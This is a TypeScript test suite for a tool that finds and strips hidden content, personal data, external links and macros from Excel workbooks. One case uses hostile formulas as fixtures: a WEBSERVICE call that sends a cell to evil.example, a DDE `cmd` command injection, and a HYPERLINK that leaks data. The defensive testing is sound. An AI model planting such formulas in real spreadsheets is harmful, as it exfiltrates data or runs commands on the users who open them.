import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { CARD, clean, found, inspect, PHONE, RESIDENT } from '../fixtures/inspected.ts';
import { allText, packageOf, partNames, partOf, rels, withParts } from '../fixtures/packages.ts';

/** A workbook of one visible sheet, as somebody works on it. */
async function book(
  work: (sheet: ExcelJS.Worksheet, workbook: ExcelJS.Workbook) => void,
): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('统计');
  sheet.addRow(['区域', '件数']);
  sheet.addRow(['东区', 3]);
  work(sheet, workbook);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

/** The cells of the first sheet as they are read, formulas as `=`. */
async function cells(bytes: Uint8Array): Promise<Record<string, unknown>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  const all: Record<string, unknown> = {};
  workbook.worksheets[0]?.eachRow((row) =>
    row.eachCell((cell) => {
      all[cell.address] = cell.formula ? `=${cell.formula}` : cell.value;
    }),
  );
  return all;
}

const plain = { A1: '区域', B1: '件数', A2: '东区', B2: 3 };

const cases: [
  name: string,
  work: (sheet: ExcelJS.Worksheet, workbook: ExcelJS.Workbook) => void,
  findings: string[],
  cells: Record<string, unknown>,
][] = [
  ['plain cells', () => {}, [], plain],
  [
    'a hidden sheet that a formula reads',
    (sheet, workbook) => {
      workbook.addWorksheet('名单', { state: 'hidden' }).addRow(['张三秘密', 7]);
      sheet.getCell('A3').value = { formula: '名单!B1*2', result: 14 };
      sheet.getCell('A4').value = { formula: 'SUM(B2:B2)', result: 3 };
    },
    ['hidden-sheet（工作表“名单”）'],
    { ...plain, A3: 14, A4: '=SUM(B2:B2)' },
  ],
  [
    'a very hidden sheet with a name for part of it',
    (sheet, workbook) => {
      workbook.addWorksheet('底稿', { state: 'veryHidden' }).addRow([9, '张三秘密']);
      workbook.definedNames.add('底稿!$A$1', '底数');
      sheet.getCell('A3').value = { formula: '底数+1', result: 10 };
    },
    ['very-hidden-sheet（工作表“底稿”）'],
    { ...plain, A3: 10 },
  ],
  [
    'hidden rows and columns, and a sum over them',
    (sheet) => {
      sheet.getCell('C2').value = '张三秘密';
      sheet.getColumn(3).hidden = true;
      sheet.getCell('A3').value = '又一秘密';
      sheet.getRow(3).hidden = true;
      sheet.getCell('B4').value = { formula: 'SUM(B2:B3)', result: 3 };
      sheet.getColumn(9).hidden = true;
    },
    ['hidden-columns（工作表“统计”）', 'hidden-rows（工作表“统计”）'],
    { ...plain, B4: 3 },
  ],
  [
    'white on white, black on black, a format that shows nothing; white on dark is legible',
    (sheet) => {
      const dark: ExcelJS.Fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FF000000' } };
      Object.assign(sheet.getCell('C1'), { value: '白秘密', font: { color: { argb: 'FFFFFFFF' } } });
      Object.assign(sheet.getCell('C2'), { value: '黑秘密', fill: dark });
      Object.assign(sheet.getCell('D1'), { value: '格式秘密', numFmt: ';;;' });
      Object.assign(sheet.getCell('D2'), {
        value: '表头',
        fill: dark,
        font: { color: { argb: 'FFFFFFFF' } },
      });
    },
    ['invisible-cells（工作表“统计”）'],
    { ...plain, D2: '表头' },
  ],
  [
    'notes',
    (sheet) => {
      sheet.getCell('A2').note = '张三秘密';
    },
    ['comment（工作表“统计”）'],
    plain,
  ],
  [
    'personal data as text, as number, in a formula',
    (sheet) => {
      sheet.getCell('C1').value = `身份证${RESIDENT}`;
      sheet.getCell('C2').value = Number(PHONE);
      sheet.getCell('D1').value = { formula: `"卡号${CARD}"`, result: `卡号${CARD}` };
    },
    ['bank-card（工作表“统计”）', 'mobile-number（工作表“统计”）', 'resident-number（工作表“统计”）'],
    { ...plain, C1: '身份证530***********1238', C2: '138****2345', D1: '卡号6222***********0128' },
  ],
  [
    'formulas that reach out; a plain link does not',
    (sheet) => {
      sheet.getCell('C1').value = { formula: 'WEBSERVICE("http://evil.example/?"&A1)', result: 'x' };
      sheet.getCell('C2').value = { formula: "cmd|'/C calc'!A0", result: 0 };
      sheet.getCell('D1').value = { formula: 'HYPERLINK("http://evil.example/"&A2,"点")', result: '点' };
      sheet.getCell('D2').value = { formula: 'HYPERLINK("https://www.gov.cn/","网站")', result: '网站' };
    },
    ['outside-formula（工作表“统计”）'],
    { ...plain, C1: 'x', C2: 0, D1: '点', D2: '=HYPERLINK("https://www.gov.cn/","网站")' },
  ],
  [
    'who wrote it',
    (_sheet, workbook) => {
      workbook.creator = '张三';
      workbook.lastModifiedBy = 'Zhang San';
      workbook.company = '昆明市财政局';
    },
    ['document-author（文件属性）', '~document-properties（文件属性）'],
    plain,
  ],
];

describe('a workbook', () => {
  it.each(cases)('%s', async (_, work, findings, expected) => {
    const bytes = await book(work);
    expect(await found(bytes, 'a.xlsx')).toEqual(findings.sort());
    const { bytes: cleaned, left } = await clean(bytes, 'a.xlsx');
    expect(left).toEqual([]);
    expect(await cells(cleaned)).toEqual(expected);
    const rest = await allText(cleaned);
    for (const secret of ['秘密', '张三', '底稿', 'evil', RESIDENT, PHONE, CARD])
      expect(rest).not.toContain(secret);
  });

  it('will not clean what a formula without its value depends on', async () => {
    const bytes = await book((sheet) => {
      sheet.getCell('A3').value = '秘密';
      sheet.getRow(3).hidden = true;
      sheet.getCell('B4').value = { formula: 'SUM(B2:B3)' } as ExcelJS.CellFormulaValue;
    });
    const [finding] = await inspect(bytes, 'a.xlsx');
    expect([finding?.kind, finding?.cleaning]).toEqual(['hidden-rows', null]);
  });

  it('shows evidence masked', async () => {
    const bytes = await book((sheet) => {
      sheet.getCell('C2').value = RESIDENT;
    });
    const [finding] = await inspect(bytes, 'a.xlsx');
    expect(finding?.evidence).toEqual(['C2 530***********1238']);
  });

  it('loses words that no cell uses any more', async () => {
    const bytes = await withParts(await book(() => {}), {
      'xl/sharedStrings.xml': (xml) => xml.replace('</sst>', '<si><t>已删除的秘密</t></si></sst>'),
    });
    expect(await found(bytes, 'a.xlsx')).toEqual(['orphan-strings（整个工作簿）']);
    const { bytes: cleaned, left } = await clean(bytes, 'a.xlsx');
    expect([left, await cells(cleaned)]).toEqual([[], plain]);
    expect(await allText(cleaned)).not.toContain('秘密');
  });
});

/** A workbook written by hand; `parts` and `links` of the workbook part are added. */
function raw(
  sheet: string,
  extra: {
    parts?: Record<string, string | Uint8Array>;
    links?: Parameters<typeof rels>;
    workbook?: string;
    sheetLinks?: Parameters<typeof rels>;
    type?: string;
  } = {},
) {
  const { parts = {}, links = [], workbook = '', sheetLinks = [], type } = extra;
  return packageOf(
    {
      '_rels/.rels': rels(['rId1', 'officeDocument', 'xl/workbook.xml']),
      'xl/workbook.xml': `<workbook xmlns:r="r"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets>${workbook}</workbook>`,
      'xl/_rels/workbook.xml.rels': rels(['rId1', 'worksheet', 'worksheets/sheet1.xml'], ...links),
      'xl/worksheets/sheet1.xml': `<worksheet xmlns:r="r"><sheetData>${sheet}</sheetData></worksheet>`,
      'xl/worksheets/_rels/sheet1.xml.rels': rels(...sheetLinks),
      ...parts,
    },
    {
      'xl/workbook.xml': type ?? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
    },
  );
}

const value = '<row r="1"><c r="A1"><v>1</v></c></row>';

describe('what a workbook carries along', () => {
  it.each<[string, Parameters<typeof raw>, string[], string[]]>([
    [
      'the cache of another workbook',
      [
        '<row r="1"><c r="A1"><f>[1]名单!$A$1</f><v>5</v></c></row>',
        {
          links: [['e', 'externalLink', 'externalLinks/externalLink1.xml']],
          workbook:
            '<externalReferences><externalReference r:id="e"/></externalReferences><definedNames><definedName name="外部">[1]名单!$A$1</definedName></definedNames>',
          parts: {
            'xl/externalLinks/externalLink1.xml':
              '<externalLink xmlns:r="r"><externalBook r:id="p"><sheetDataSet><sheetData><row><cell><v>秘密</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>',
            'xl/externalLinks/_rels/externalLink1.xml.rels': rels([
              'p',
              'externalLinkPath',
              'file:///\\\\10.0.0.8\\案卷\\张三.xlsx',
              true,
            ]),
          },
        },
      ],
      ['external-workbook（整个工作簿）', 'outside-name（名称管理器）'],
      ['externalLink', 'definedName', '[1]'],
    ],
    [
      'the cache of a pivot table',
      [
        value,
        {
          links: [['p', 'pivotCacheDefinition', 'pivotCache/pivotCacheDefinition1.xml']],
          sheetLinks: [['t', 'pivotTable', '../pivotTables/pivotTable1.xml']],
          workbook: '<pivotCaches><pivotCache cacheId="1" r:id="p"/></pivotCaches>',
          parts: {
            'xl/pivotCache/pivotCacheDefinition1.xml':
              '<pivotCacheDefinition xmlns:r="r" r:id="x"><cacheFields><cacheField><sharedItems><s v="张三秘密"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>',
            'xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels': rels([
              'x',
              'pivotCacheRecords',
              'pivotCacheRecords1.xml',
            ]),
            'xl/pivotCache/pivotCacheRecords1.xml':
              '<pivotCacheRecords><r><s v="秘密"/></r><r/></pivotCacheRecords>',
            'xl/pivotTables/pivotTable1.xml': '<pivotTableDefinition/>',
            'xl/pivotTables/_rels/pivotTable1.xml.rels': rels([
              'c',
              'pivotCacheDefinition',
              '../pivotCache/pivotCacheDefinition1.xml',
            ]),
          },
        },
      ],
      ['pivot-cache（整个工作簿）'],
      ['pivot'],
    ],
    [
      'a connection, threaded comments, printer settings, custom data',
      [
        value,
        {
          links: [
            ['c', 'connections', 'connections.xml'],
            ['p', 'person', 'persons/person.xml'],
            ['x', 'customXml', '../customXml/item1.xml'],
          ],
          sheetLinks: [
            ['t', 'threadedComment', '../threadedComments/threadedComment1.xml'],
            ['s', 'printerSettings', '../printerSettings/printerSettings1.bin'],
          ],
          parts: {
            'xl/connections.xml':
              '<connections><connection><dbPr connection="Server=10.0.0.8;Password=秘密"/></connection></connections>',
            'xl/persons/person.xml': '<personList><person displayName="张三"/></personList>',
            'customXml/item1.xml': '<a>秘密</a>',
            'xl/threadedComments/threadedComment1.xml':
              '<ThreadedComments><threadedComment><text>张三秘密</text></threadedComment></ThreadedComments>',
            'xl/printerSettings/printerSettings1.bin': Uint8Array.of(1, 2, 3),
          },
        },
      ],
      [
        'comment（工作表“表”）',
        'connection（整个工作簿）',
        'custom-xml（整个文件）',
        'people-list（整个文件）',
        '~printer-settings（工作表“表”）',
      ],
      ['connections', 'printerSettings', 'threadedComment', 'person'],
    ],
    [
      'macros',
      [
        value,
        {
          type: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
          links: [['m', 'vbaProject', 'vbaProject.bin']],
          parts: { 'xl/vbaProject.bin': Uint8Array.of(0xd0, 0xcf, 1) },
        },
      ],
      ['macro（整个文件）'],
      ['vbaProject', 'macroEnabled'],
    ],
    [
      'a hidden name and a revision log',
      [
        value,
        {
          links: [['h', 'revisionHeaders', 'revisions/revisionHeaders.xml']],
          workbook:
            '<definedNames><definedName name="_xlnm._FilterDatabase" hidden="1">表!$A$1</definedName><definedName name="k" hidden="1">"秘密"</definedName></definedNames>',
          parts: { 'xl/revisions/revisionHeaders.xml': '<headers>张三</headers>' },
        },
      ],
      ['hidden-name（名称管理器）', 'revision-log（整个工作簿）'],
      ['revisionHeaders', 'name="k"'],
    ],
  ])('%s', async (_, args, findings, gone) => {
    const bytes = await raw(...args);
    const name = args[1]?.type ? 'a.xlsm' : 'a.xlsx';
    expect(await found(bytes, name)).toEqual(findings.sort());
    const cleaned = await clean(bytes, name);
    expect([cleaned.left, cleaned.name]).toEqual([[], 'a.xlsx']);
    const rest = (await allText(cleaned.bytes)) + (await partNames(cleaned.bytes)).join('\n');
    for (const secret of ['秘密', '张三', '10.0.0.8', ...gone]) expect(rest).not.toContain(secret);
    expect(await partOf(cleaned.bytes, 'xl/worksheets/sheet1.xml')).toMatch(/<c r="A1"><v>[15]<\/v><\/c>/);
  });
});
